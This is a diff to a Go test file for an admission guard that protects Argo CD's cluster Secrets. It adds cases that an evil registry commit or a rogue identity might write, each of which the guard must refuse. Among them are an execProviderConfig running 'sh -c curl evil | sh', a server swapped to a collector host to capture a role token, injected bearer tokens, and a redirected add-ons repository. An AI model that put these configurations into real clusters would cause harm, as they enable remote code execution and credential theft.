@@ -40,6 +40,8 @@ func fleetSecrets(t *testing.T) (hub, spoke map[string]any) {
 		Config: gitopsbridge.InClusterConfig()})
 	spoke = parse(gitopsbridge.ClusterSecret{Name: "spoke-a", Namespace: argocdNamespace, ClusterName: "spoke-a",
 		Labels: gitopsbridge.Labels("spoke-a", "dev", "1.33", map[string]bool{"karpenter": true}, nil),
+		Annotations: map[string]string{"aws_region": "us-east-2", "karpenter_namespace": "karpenter",
+			"addons_repo_url": "https://github.com/acme/addons"},
 		Server: spokeServer, Config: gitopsbridge.SpokeConfig("spoke-a", spokeRole, "Q0EgZGF0YQ==")})
 	return hub, spoke
 }
@@ -72,23 +74,61 @@ func field(obj map[string]any, path ...string) map[string]any {
 	return m
 }
 
-// TestClusterSecretGuard: Kubernetes v0.36.1's own admission code runs the hub's guard over what the product
-// writes (admitted) and over what an evil registry commit would make Argo CD write (refused, each with its
-// message). Argo CD's application controller writes every Git sync; a person (Pulumi's direct mode, Helm) writes
-// the rest.
-func TestClusterSecretGuard(t *testing.T) {
-	hub, spoke := fleetSecrets(t)
-	spokeB := edited(t, spoke, func(o map[string]any) {
+// Who writes Secrets in Argo CD's namespace: the deployer (the stack's AWS caller, an assumed role, as EKS names
+// it), Argo CD's server, a stage of StackDelivery and kube-controller-manager's namespace controller.
+const (
+	deployerRole = "arn:aws:sts::111122223333:assumed-role/platform-deployer/"
+	argocdServer = "system:serviceaccount:argocd:" + gitopsbridge.ServerServiceAccount
+	stage        = "system:serviceaccount:fleet-prod:fleet-prod-deploy"
+	namespaces   = "system:serviceaccount:kube-system:namespace-controller"
+)
+
+// clusterSecretGuard is the hub's guard over fleetSecrets: the hub's and two spokes' registrations.
+func clusterSecretGuard(t *testing.T) (g gitopsbridge.ClusterSecretGuard, hub, spoke, spokeB map[string]any) {
+	t.Helper()
+	hub, spoke = fleetSecrets(t)
+	spokeB = edited(t, spoke, func(o map[string]any) {
+		field(o, "metadata")["name"] = "spoke-b"
 		field(o, "stringData")["name"] = "spoke-b"
 		field(o, "metadata", "labels")["cluster_name"] = "spoke-b"
 		field(o, "stringData")["config"] = gitopsbridge.SpokeConfig("spoke-b", spokeRole, "Q0EgZGF0YQ==")
 	})
-	p := gitopsbridge.ClusterSecretGuard{Namespace: argocdNamespace, HubClusterName: "hub",
-		ControllerServiceAccount: gitopsbridge.ApplicationControllerServiceAccount,
-		Spokes: []gitopsbridge.Registration{
-			gitopsbridge.SpokeRegistration("spoke-b", spokeServer, spokeRole, "Q0EgZGF0YQ=="),
-			gitopsbridge.SpokeRegistration("spoke-a", spokeServer, spokeRole, "Q0EgZGF0YQ=="),
-		}}.Policy()
+	var regs []gitopsbridge.ClusterSecret
+	for _, o := range []map[string]any{hub, spokeB, spoke} {
+		raw, err := yaml.Marshal(o)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r, err := gitopsbridge.ParseClusterSecret(string(raw))
+		if err != nil {
+			t.Fatal(err)
+		}
+		regs = append(regs, r)
+	}
+	return gitopsbridge.ClusterSecretGuard{Namespace: argocdNamespace,
+		Deployer:      gitopsbridge.DeployerUsername(deployerRole + "ci-run-1"),
+		SecretWriters: []string{argocdServer},
+		Registered:    regs}, hub, spoke, spokeB
+}
+
+// synced is obj as Argo CD's application controller writes it from Git: with its tracking annotation and kubectl's
+// last applied configuration.
+func synced(t *testing.T, obj map[string]any) map[string]any {
+	return edited(t, obj, func(o map[string]any) {
+		a := field(o, "metadata", "annotations")
+		a["argocd.argoproj.io/tracking-id"] = "cluster-registry-dev:/Secret:argocd/spoke-a"
+		a["kubectl.kubernetes.io/last-applied-configuration"] = `{"apiVersion":"v1","kind":"Secret"}`
+	})
+}
+
+// TestClusterSecretGuard: Kubernetes v0.36.1's own admission code runs the hub's guard over what the product
+// writes (admitted) and over what an evil registry commit would make Argo CD write, or another identity on the hub
+// would write (refused, each with its message). Deny by default: every writer but the deployer writes exactly the
+// registered secrets, and only Argo CD's own writers touch its other secrets.
+func TestClusterSecretGuard(t *testing.T) {
+	g, hub, spoke, spokeB := clusterSecretGuard(t)
+	p := g.Policy()
+	deployer := deployerRole + "ci-run-2" // another session of the deployer's role
 	spokeConfig := func(config string) map[string]any {
 		return edited(t, spoke, func(o map[string]any) { field(o, "stringData")["config"] = config })
 	}
@@ -101,24 +141,32 @@ func TestClusterSecretGuard(t *testing.T) {
 		user string
 		want string // "" admitted, else part of the refusal
 	}{
-		"the hub's own secret, from Git":    {obj: hub, user: controller},
-		"the hub's own secret, from Pulumi": {obj: hub, user: "kubernetes-admin"},
-		"a spoke's secret, from Git":        {obj: spoke, user: controller},
-		"another spoke's secret, from Git":  {obj: spokeB, user: controller},
-		"an unregistered cluster, from Pulumi (push mode)": {user: "kubernetes-admin",
-			obj: edited(t, spoke, func(o map[string]any) { field(o, "stringData")["name"] = "elsewhere" })},
-		"an unregistered cluster, from a registry commit": {user: controller, want: exact,
+		"the hub's own secret, from Git":             {obj: synced(t, hub), user: controller},
+		"the hub's own secret, from Pulumi":          {obj: hub, user: deployer},
+		"a spoke's secret, from Git":                 {obj: synced(t, spoke), user: controller},
+		"another spoke's secret, from Git":           {obj: spokeB, user: controller},
+		"a spoke's secret, from Argo CD's server":    {obj: spoke, user: argocdServer},
+		"an unregistered cluster, from the deployer": {user: deployer, obj: edited(t, spoke, func(o map[string]any) { field(o, "stringData")["name"] = "elsewhere" })},
+		"an unregistered cluster, from a registry commit": {user: controller, want: "one the stack registered, by name",
 			obj: edited(t, spoke, func(o map[string]any) {
+				field(o, "metadata")["name"] = "rogue"
 				field(o, "stringData")["name"] = "rogue"
 				field(o, "metadata", "labels")["cluster_name"] = "rogue"
 			})},
-		"a spoke's name on the writer's server, which would receive the spoke role's token": {user: controller,
-			want: exact, obj: edited(t, spoke, func(o map[string]any) {
-				field(o, "stringData")["server"] = "https://collector.example.com"
+		"an exec-config cluster, from Argo CD's server (argocd cluster add)": {user: argocdServer, want: "one the stack registered",
+			obj: edited(t, spoke, func(o map[string]any) {
+				field(o, "metadata")["name"] = "cluster-evil"
+				field(o, "stringData")["config"] = `{"execProviderConfig":{"command":"sh"},"tlsClientConfig":{"insecure":false}}`
 			})},
-		"a spoke's config with execProviderConfig (a command Argo CD runs)": {user: controller, want: exact,
+		"a spoke's config with execProviderConfig, from a stage": {user: stage, want: "data differ",
 			obj: spokeConfig(`{"execProviderConfig":{"command":"sh","args":["-c","curl evil | sh"],"apiVersion":` +
 				`"client.authentication.k8s.io/v1beta1"},"tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
+		"a registered spoke's data under the name argocd-secret": {user: controller, want: "one the stack registered, by name",
+			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata")["name"] = "argocd-secret" })},
+		"a spoke's name on the writer's server, which would receive the spoke role's token": {user: controller,
+			want: "data differ", obj: edited(t, spoke, func(o map[string]any) {
+				field(o, "stringData")["server"] = "https://collector.example.com"
+			})},
 		"a spoke's config with a bearer token": {user: controller, want: exact,
 			obj: spokeConfig(`{"bearerToken":"stolen","tlsClientConfig":{"caData":"Q0EgZGF0YQ=="}}`)},
 		"a spoke's config with a password": {user: controller, want: exact,
@@ -133,14 +181,36 @@ func TestClusterSecretGuard(t *testing.T) {
 		"a spoke's config with an appended key": {user: controller, want: exact,
 			obj: spokeConfig(strings.TrimSuffix(gitopsbridge.SpokeConfig("spoke-a", spokeRole, "Q0EgZGF0YQ=="), "}") +
 				`,"execProviderConfig":{"command":"sh"}}`)},
-		"a spoke whose cluster_name label names another cluster": {user: controller, want: exact,
+		"a spoke whose cluster_name label names another cluster": {user: controller, want: "label cluster_name differ",
 			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "labels")["cluster_name"] = "spoke-b" })},
-		"the hub's secret under another cluster_name label": {user: controller, want: exact,
+		"an account-wide add-on switched on by a label": {user: controller, want: "label enable_ack_s3 differ",
+			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "labels")["enable_ack_s3"] = "true" })},
+		"an add-on switched off by a label": {user: controller, want: "label enable_karpenter differ",
+			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "labels")["enable_karpenter"] = "false" })},
+		"an add-on moved into Argo CD's namespace by an annotation": {user: controller, want: "annotation karpenter_namespace differ",
+			obj: edited(t, spoke, func(o map[string]any) { field(o, "metadata", "annotations")["karpenter_namespace"] = "argocd" })},
+		"another values repository by an annotation": {user: controller, want: "annotation addons_repo_url differ",
+			obj: edited(t, spoke, func(o map[string]any) {
+				field(o, "metadata", "annotations")["addons_repo_url"] = "https://github.com/evil/addons"
+			})},
+		"a registered annotation dropped": {user: controller, want: "annotation aws_region differ",
+			obj: edited(t, spoke, func(o map[string]any) { delete(field(o, "metadata", "annotations"), "aws_region") })},
+		"a registered spoke owned by something the garbage collector may delete": {user: controller, want: "ownerReferences differ",
+			obj: edited(t, spoke, func(o map[string]any) {
+				field(o, "metadata")["ownerReferences"] = []any{map[string]any{"apiVersion": "v1", "kind": "ConfigMap",
+					"name": "gone", "uid": "00000000-0000-0000-0000-000000000000"}}
+			})},
+		"the hub's secret under another cluster_name label": {user: controller, want: "label cluster_name differ",
 			obj: edited(t, hub, func(o map[string]any) { field(o, "metadata", "labels")["cluster_name"] = "spoke-a" })},
-		"argocd-secret, from Argo CD's chart": {obj: argocdSecret, user: "kubernetes-admin"},
+		"argocd-secret, from Argo CD's chart (the deployer)": {obj: argocdSecret, user: deployer},
+		"argocd-secret, from Argo CD's server":               {obj: argocdSecret, user: argocdServer},
 		"argocd-secret, from a registry commit": {obj: argocdSecret, user: controller,
-			want: "may write only cluster secrets"},
-		"a repository credential, from a registry commit": {user: controller, want: "may write only cluster secrets",
+			want: "may write Secrets other than cluster secrets"},
+		"argocd-secret, from a stage with cluster-wide edit": {obj: argocdSecret, user: stage,
+			want: "may write Secrets other than cluster secrets"},
+		"argocd-secret, from the deployer's role in another account": {obj: argocdSecret,
+			user: "arn:aws:sts::999999999999:assumed-role/platform-deployer/x", want: "may write Secrets other than cluster secrets"},
+		"a repository credential, from a registry commit": {user: controller, want: "may write Secrets other than cluster secrets",
 			obj: edited(t, spoke, func(o map[string]any) {
 				field(o, "metadata", "labels")[gitopsbridge.SecretTypeLabel] = "repository"
 			})},
@@ -154,7 +224,7 @@ func TestClusterSecretGuard(t *testing.T) {
 			obj: edited(t, hub, func(o map[string]any) {
 				field(o, "stringData")["config"] = `{"bearerToken":"stolen","tlsClientConfig":{"insecure":false}}`
 			})},
-		"the hub's secret without TLS verification": {user: "kubernetes-admin", want: "only the hub's own secret",
+		"the hub's secret without TLS verification, from the deployer": {user: deployer, want: "only the hub's own secret",
 			obj: edited(t, hub, func(o map[string]any) {
 				field(o, "stringData")["config"] = `{"tlsClientConfig":{"insecure":true}}`
 			})},
@@ -169,6 +239,37 @@ func TestClusterSecretGuard(t *testing.T) {
 	if ok, msg := admit(t, p, edited(t, argocdSecret, func(o map[string]any) { field(o, "metadata")["namespace"] = "apps" }),
 		nil, "apps", controller, secretKind, secretResource); !ok {
 		t.Errorf("a Secret in another namespace: %s", msg)
+	}
+}
+
+// TestClusterSecretDeletions: the deletion guard lets a Git sync prune only a cluster secret the stack no longer
+// registers; a registered cluster, or Argo CD's own secret, is deleted by the deployer or the API's own
+// controllers only.
+func TestClusterSecretDeletions(t *testing.T) {
+	g, _, spoke, _ := clusterSecretGuard(t)
+	p := g.DeletePolicy()
+	dropped := edited(t, spoke, func(o map[string]any) { field(o, "metadata")["name"] = "spoke-gone" })
+	argocdSecret := map[string]any{"apiVersion": "v1", "kind": "Secret",
+		"metadata": map[string]any{"name": "argocd-secret", "namespace": argocdNamespace}}
+	cases := map[string]struct {
+		old  map[string]any
+		user string
+		want string
+	}{
+		"an unregistered cluster, pruned by a sync":              {old: dropped, user: controller},
+		"a registered cluster, deleted by the deployer":          {old: spoke, user: deployerRole + "ci-run-3"},
+		"a registered cluster, deleted with its namespace":       {old: spoke, user: namespaces},
+		"argocd-secret, deleted by Argo CD's server":             {old: argocdSecret, user: argocdServer},
+		"a registered cluster, pruned by a sync":                 {old: spoke, user: controller, want: "deleted only by the deployer"},
+		"a registered cluster, deleted through Argo CD's server": {old: spoke, user: argocdServer, want: "deleted only by the deployer"},
+		"a registered cluster, deleted by a stage":               {old: spoke, user: stage, want: "deleted only by the deployer"},
+		"argocd-secret, pruned by a sync":                        {old: argocdSecret, user: controller, want: "may delete Secrets other than cluster secrets"},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			ok, msg := admit(t, p, nil, tc.old, argocdNamespace, tc.user, secretKind, secretResource)
+			expectAdmission(t, ok, msg, tc.want)
+		})
 	}
 }
 
